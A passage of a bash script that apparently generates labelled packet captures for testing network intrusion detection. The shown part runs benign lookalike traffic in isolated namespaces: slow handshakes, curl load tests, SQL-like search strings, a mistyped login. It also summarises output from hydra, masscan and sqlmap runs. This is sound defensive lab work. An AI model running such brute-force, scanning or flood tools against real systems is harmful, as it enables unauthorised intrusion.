  # The server ignores the first SYNs (nft drop in the victim, after the capture point): the client
  # retransmits and the handshake completes after ~3 s (445, 22, 139) or ~7 s (3389).
  local port hold
  for port in 445 22 3389 139; do
    hold=2.5; [ $port = 3389 ] && hold=6.5
    nsx $V nft -f - <<NFT
table inet slow {
  chain input {
    type filter hook input priority 0;
    tcp dport $port tcp flags & (syn | ack) == syn drop
  }
}
NFT
    nsx $C timeout 25 "$PY" "$HERE/lib/tcp_session.py" $VIC $port 2 & local p=$!
    sleep $hold
    nsx $V nft delete table inet slow
    wait $p || true
    sleep 0.5
  done
  meta benign_slow_handshake kind=benign spoofed=0 \
    tool="sessions to 445, 22, 3389, 139 whose first SYNs the server ignores: handshakes complete after ~3 s (3389: ~7 s)" filter="$(from $CLI)"
}
sc_benign_keepalive() {
  local i pids=()
  for i in $(seq 1 20); do
    nsx $C timeout 15 curl -s -o /dev/null --rate 70/s "http://$VIC:8081/page?n=[1-280]" & pids+=($!)
  done
  wait "${pids[@]}" || true
  meta benign_keepalive kind=benign spoofed=0 \
    tool="20 x curl --rate 70/s 'http://$VIC:8081/page?n=[1-280]' at once: 20 keep-alive connections, ~1,400 requests/s for 4 s" filter="$(from $CLI)"
}
sc_benign_loadtest() {
  # 2 x 250 parallel connections at once (curl --parallel-immediate): the server accepts 250/s with a
  # listen backlog of 16, so SYNs are dropped and retried (1 s, 2 s ...) until every handshake completes
  local p1 p2
  nsx $C timeout 30 curl -s -Z --parallel-immediate --parallel-max 250 -o '/dev/null' "http://$VIC:8082/a?n=[1-250]" & p1=$!
  nsx $C timeout 30 curl -s -Z --parallel-immediate --parallel-max 250 -o '/dev/null' "http://$VIC:8082/b?n=[1-250]" & p2=$!
  wait $p1 $p2 || true
  meta benign_loadtest kind=benign spoofed=0 \
    tool="2 x curl -Z --parallel-immediate --parallel-max 250 'http://$VIC:8082/x?n=[1-250]' against a server accepting 250 connections/s with a listen backlog of 16: 500 connections at once, SYNs dropped and retried, every handshake completes" \
    filter="$(from $CLI)"
}
sc_benign_sql_lookalikes() {
  local b="http://$VIC:8080"
  local c=(nsx $C curl -s -g -m 5 -o /dev/null -A "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0")
  "${c[@]}" "$b/search?q=color+0x31ff00+or+0x2e2e2e" || true; sleep 0.3
  "${c[@]}" "$b/search?q=amount+1e3+or+more" || true; sleep 0.3
  "${c[@]}" "$b/search?q=char(49)+in+C" || true; sleep 0.3
  "${c[@]}" "$b/search?q=/*+select+a+plan+*/" || true; sleep 0.3
  "${c[@]}" "$b/items?order=desc&limit=10&color=0x1f" || true; sleep 0.3
  "${c[@]}" "$b/search?q=union+and+selection" || true
  meta benign_sql_lookalikes kind=benign spoofed=0 \
    tool="curl: searches with hex colours, 1e3, char(49) in C, /* comments */, union and selection" filter="$(from $CLI)"
}
sc_benign_web_login() {
  local b="http://$VIC:8081/login" c=(nsx $C curl -s -m 5 -o /dev/null)
  "${c[@]}" --data-urlencode "username=alice" --data-urlencode "password=correct hrose" "$b" || true; sleep 2
  "${c[@]}" --data-urlencode "username=alice" --data-urlencode "password=correct horse" "$b" || true; sleep 1
  "${c[@]}" "http://$VIC:8081/account" || true
  meta benign_web_login kind=benign spoofed=0 tool="curl: a mistyped web login, then the right password" filter="$(from $CLI)"
}
sc_benign_ftp() {
  nsx $C timeout 10 curl -s -m 8 -o /dev/null "ftp://alice:correct%20horse@$VIC/readme.txt" || true; sleep 1
  nsx $C timeout 10 curl -s -m 8 -o /dev/null "ftp://alice:wrong@$VIC/readme.txt" || true; sleep 1
  nsx $C timeout 10 curl -s -m 8 -o /dev/null "ftp://alice:correct%20horse@$VIC/readme.txt" || true
  meta benign_ftp kind=benign spoofed=0 tool="curl ftp:// downloads: success, one wrong password, success" filter="$(from $CLI)"
}

# ---------------------------------------------------------------- run
for s in "${SCENARIOS[@]}"; do
  declare -F "sc_$s" >/dev/null || { echo "unknown scenario $s" >&2; exit 1; }
done
for s in "${SCENARIOS[@]}"; do
  case $s in
    benign_download) run_scenario "$s" 96 ;;
    benign_one_sided) run_scenario "$s" 262144 "$V" -Q in ;;
    benign_rtp) run_scenario "$s" 96 ;;
    http_flood | http_flood_keepalive) run_scenario "$s" 128 ;;
    *) run_scenario "$s" ;;
  esac
  sleep 1
done

log "building manifest.json"
"$PY" "$HERE/lib/manifest.py" build "$META" "$OUT/manifest.json" "$OUT" "${ALL_SCENARIOS[@]}"
[ -s "$TMPD/hydra.out" ] && { log "hydra:"; tail -8 "$TMPD/hydra.out" >&2 || true; }
[ -s "$TMPD/masscan.out" ] && { log "masscan:"; tail -3 "$TMPD/masscan.out" >&2 || true; }
[ -s "$TMPD/sqlmap.out" ] && { log "sqlmap:"; grep -E 'is vulnerable|injectable|CRITICAL|tables' "$TMPD/sqlmap.out" | tail -5 >&2 || true; }
# refresh the per-file table in README.md
{
  echo '| file | packets | gz bytes | first packet | duration (s) |'
  echo '|------|--------:|---------:|--------------|-------------:|'
  for s in "${ALL_SCENARIOS[@]}"; do
    f="$OUT/$s.pcap.gz"; [ -f "$f" ] || continue
    capinfos -T -r -c -a -u -M "$f" 2>/dev/null | awk -F'\t' -v sz="$(stat -c %s "$f")" -v n="$s.pcap.gz" \
      '{ printf "| `%s` | %s | %s | %s | %s |\n", n, $2, sz, $4, $3 }'
  done
  printf '\nTotal: %s bytes\n' "$(cat "$OUT"/*.pcap.gz | wc -c)"
} >"$TMPD/stats.md"
"$PY" - "$OUT/README.md" "$TMPD/stats.md" <<'PYEOF'
import sys
readme, stats = sys.argv[1], open(sys.argv[2]).read()
t = open(readme).read()
a = t.index("<!-- stats: generated by generate.sh -->") + len("<!-- stats: generated by generate.sh -->")
b = t.index("<!-- /stats -->")
open(readme, "w").write(t[:a] + "\n" + stats + t[b:])
PYEOF
du -ch "$OUT"/*.pcap.gz | tail -1 >&2
log "done"
